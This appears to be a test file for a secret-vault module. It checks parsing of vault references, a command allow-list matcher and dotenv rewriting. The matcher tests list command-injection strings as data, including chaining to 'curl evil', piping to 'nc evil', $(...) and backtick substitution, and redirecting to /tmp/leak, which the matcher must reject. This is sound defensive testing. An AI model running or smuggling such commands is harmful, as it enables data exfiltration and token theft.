import { strict as assert } from 'node:assert';
import { commandAllowed, parseSecretReferences, referencedName, secretReference } from '../../../../src/engine/vault/model';
import { parseDotenv, replaceWithReferences } from '../../../../src/engine/vault/dotenv';

describe('engine/vault/model', () => {
  it('parses references', () => {
    assert.deepEqual(parseSecretReferences('a ${vault:ONE} b ${vault:two_2} ${vault:ONE} ${vault:1bad} ${env:X}'), ['ONE', 'two_2']);
    assert.equal(referencedName(' ${vault:NPM_TOKEN} '), 'NPM_TOKEN');
    assert.equal(referencedName('x${vault:NPM_TOKEN}'), undefined);
    assert.equal(secretReference('A'), '${vault:A}');
  });

  it('matches command patterns over the whole command line', () => {
    assert.ok(commandAllowed(['gh *'], 'gh pr list'));
    assert.ok(commandAllowed(['npm publish'], '  npm   publish '));
    assert.ok(!commandAllowed(['gh *'], 'curl x; gh pr list'));
    assert.ok(!commandAllowed(['npm publish'], 'npm publish && curl evil'));
    assert.ok(!commandAllowed([], 'anything'));
    assert.ok(commandAllowed(['*'], 'anything'));
    assert.ok(!commandAllowed(['a.c'], 'abc'), 'pattern characters are literal except *');
    for (const chained of ['gh pr list; curl evil', 'gh pr list && curl evil', 'gh x | nc evil 1', 'gh $(curl evil)', 'gh `id`',
      'gh x > /tmp/leak', 'gh x\ncurl evil', 'gh "$GH_TOKEN"']) {
      assert.ok(!commandAllowed(['gh *'], chained), `wildcard let through: ${chained}`);
    }
    assert.ok(commandAllowed(['gh *'], 'gh api -H "Accept: application/json" /repos/o/r'));
  });
});

describe('engine/vault/dotenv', () => {
  const file = [
    '# comment', 'export API_KEY=abc123', 'QUOTED="with space"', "SINGLE='x y'", 'INLINE=value # note',
    'REF=${vault:REF}', 'EMPTY=', 'not an assignment', 'BAD-NAME=1', '',
  ].join('\n');

  it('finds entries and reports lines it did not understand by number only', () => {
    const parsed = parseDotenv(file);
    assert.deepEqual(parsed.entries.map((e) => [e.name, e.value]), [
      ['API_KEY', 'abc123'], ['QUOTED', 'with space'], ['SINGLE', 'x y'], ['INLINE', 'value']]);
    assert.deepEqual(parsed.skippedLines, [8, 9]);
  });

  it('replaces only the chosen values with references and keeps the rest', () => {
    const out = replaceWithReferences(file, new Set(['API_KEY', 'QUOTED']));
    const lines = out.split('\n');
    assert.equal(lines[1], 'export API_KEY=${vault:API_KEY}');
    assert.equal(lines[2], 'QUOTED=${vault:QUOTED}');
    assert.equal(lines[3], "SINGLE='x y'");
    assert.equal(lines.length, file.split('\n').length);
    assert.ok(!out.includes('abc123'));
  });
});
